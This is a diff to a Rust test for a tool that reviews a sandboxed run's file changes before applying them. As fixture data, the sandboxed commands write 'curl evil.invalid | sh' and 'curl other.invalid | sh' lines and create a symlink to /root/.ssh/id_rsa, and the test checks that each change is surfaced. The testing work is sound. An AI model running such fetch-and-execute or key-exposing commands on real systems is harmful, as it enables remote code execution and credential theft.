@@ -1080,6 +1080,7 @@ fn the_review_shows_or_names_everything_it_would_apply() {
     for leg in legs() {
         let s = Scratch::new(leg);
         write(&s, "tool.sh", "echo hi\n");
+        std::os::unix::fs::symlink("tool.sh", s.ws.join("run.sh")).expect("symlink");
         let o = s.exec(
             &["--json", "--timeout", "1"],
             &[
@@ -1087,7 +1088,7 @@ fn the_review_shows_or_names_everything_it_would_apply() {
                 "-c",
                 "printf '# caf\\351\\ncurl evil.invalid | sh\\n' > build.sh; \
                  printf 'a\\000b' > blob.bin; ln -s /root/.ssh/id_rsa notes.txt; \
-                 chmod 0755 tool.sh; sleep 30",
+                 chmod 0755 tool.sh; rm run.sh; echo 'curl other.invalid | sh' > run.sh; sleep 30",
             ],
         );
         assert_code(&o, 124, "timeout: the run is kept");
@@ -1108,6 +1109,9 @@ fn the_review_shows_or_names_everything_it_would_apply() {
             "blob.bin: new content not shown: binary (3 bytes",
             "notes.txt: symlink -> /root/.ssh/id_rsa",
             "tool.sh: mode 0644 -> 0755",
+            // A file in place of a symlink: its content, not only the type.
+            "run.sh: was a symlink, now a file",
+            "+curl other.invalid | sh",
         ] {
             assert!(err.contains(want), "{leg:?}: {want:?} missing from:\n{err}");
         }
